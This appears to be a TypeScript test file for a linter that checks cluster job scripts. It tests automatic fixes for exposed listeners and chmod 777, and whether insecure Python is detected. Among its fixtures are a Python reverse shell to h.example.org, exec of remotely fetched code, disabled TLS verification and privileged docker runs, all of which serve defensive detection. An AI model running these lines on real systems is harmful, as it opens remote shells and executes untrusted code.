import { describe, expect, it } from 'vitest';
import { applyEdits, check, job } from '../../support/check.ts';

/** The script after the fixes of one rule, and how often the rule still speaks. */
function fixed(script: string, rule: string): { readonly text: string; readonly left: number } {
  const own = (text: string) => check(text).findings.filter((finding) => finding.rule === rule);
  const before = own(script);
  expect(before).not.toEqual([]);
  const text = applyEdits(
    script,
    before.flatMap((finding) => finding.fix?.edits ?? []),
  );
  return { text, left: own(text).length };
}

const python = (text: string): string => job(`python - <<'EOF'\n${text}\nEOF`);

describe('fixes in Python text leave Python', () => {
  it.each<[rule: string, script: string, expected: string]>([
    [
      'JV107',
      python("import socket\ns = socket.socket()\ns.bind(('', 9000))\ns.listen()"),
      "s.bind(('127.0.0.1', 9000))",
    ],
    [
      'JV107',
      python('import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 9000))\ns.listen()'),
      's.bind(("127.0.0.1", 9000))',
    ],
    [
      'JV107',
      python("import socketserver\nsocketserver.TCPServer(('', 9), H).serve_forever()"),
      "TCPServer(('127.0.0.1', 9), H)",
    ],
    [
      'JV107',
      python('import socket\nHOST = r"""0.0.0.0"""\ns = socket.socket()\ns.bind((HOST, 9))\ns.listen()'),
      'HOST = r"""127.0.0.1"""',
    ],
    [
      'JV107',
      python("import socket\nHOST = ''\ns = socket.socket()\ns.bind((HOST, 9))\ns.listen()"),
      "HOST = '127.0.0.1'",
    ],
    [
      'JV102',
      python('import gradio as gr\ngr.Interface(f).launch(server_name="0.0.0.0")'),
      'launch(server_name="127.0.0.1")',
    ],
    [
      'JV101',
      job(
        "cat > jupyter_server_config.py <<'EOF'\nc.ServerApp.ip = '0.0.0.0'\nc.ServerApp.token = ''\nEOF\njupyter lab",
      ),
      "c.ServerApp.ip = '127.0.0.1'",
    ],
    ['JV601', python('import os\nos.system("chmod 777 /scratch/x")'), 'os.system("chmod 750 /scratch/x")'],
    [
      'JV601',
      python('import subprocess\nsubprocess.run(["bash", "-c", "chmod 777 /scratch/x"])'),
      '["bash", "-c", "chmod 750 /scratch/x"]',
    ],
  ])('%s %s', (rule, script, expected) => {
    const { text, left } = fixed(script, rule);
    expect(text).toContain(expected);
    expect(left).toBe(0);
  });

  it('an f-string or the sum of several texts is left alone', () => {
    const script = python('import socket\ns = socket.socket()\ns.bind(("0.0" + ".0.0", 9))\ns.listen()');
    const [finding] = check(script).findings.filter((one) => one.rule === 'JV107');
    expect(finding).toBeDefined();
    expect(finding?.fix?.edits ?? []).toEqual([]);
  });

  it('a word of a program in a list is left alone', () => {
    const script = python('import subprocess\nsubprocess.run(["docker", "run", "--privileged", "img:1"])');
    const [finding] = check(script).findings.filter((one) => one.rule === 'JV201');
    expect(finding).toBeDefined();
    expect(finding?.fix?.edits ?? []).toEqual([]);
  });
});

describe('Python in a file that the script writes', () => {
  it.each<[rule: string, python: string]>([
    ['JV401', 'import requests\nrequests.get("https://example.org/x", verify=False)'],
    ['JV601', 'import os\nos.chmod("/scratch/x", 0o777)'],
    ['JV107', 'import socket\ns = socket.socket()\ns.bind(("", 9000))\ns.listen()'],
    [
      'JV701',
      'import socket, subprocess, os\ns = socket.socket()\ns.connect(("h.example.org", 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
    ],
    [
      'JV403',
      'import paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())\nc.connect("h.example.org")',
    ],
    ['JV301', 'import requests\nexec(requests.get("https://example.org/y").text)'],
    ['JV109', 'import gradio as gr\ngr.Interface(f).launch(share=True)'],
    ['JV201', 'import os\nos.system("docker run --privileged img:1")'],
  ])('%s', (rule, text) => {
    const write = `cat > r.py <<'EOF'\n${text}\nEOF\n`;
    const rules = (script: string) => check(job(script)).findings.map((finding) => finding.rule);
    expect(rules(`${write}srun python r.py`)).toContain(rule);
    expect(rules(`${write}python other.py`)).not.toContain(rule);
  });
});

describe('honest Python that starts programs', () => {
  it.each([
    'import subprocess\nprint(subprocess.check_output(["nvidia-smi"]).decode())',
    'import os\nos.system("nvidia-smi")\nos.system(f"mkdir -p {out}")',
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "train.py", "--epochs", "3"])',
    'import subprocess\nsubprocess.run(["srun", "hostname"], check=True)',
    'import subprocess\nx = subprocess.getoutput("scontrol show hostnames")',
  ])('%s', (text) => {
    expect(check(python(text)).findings).toEqual([]);
  });
});
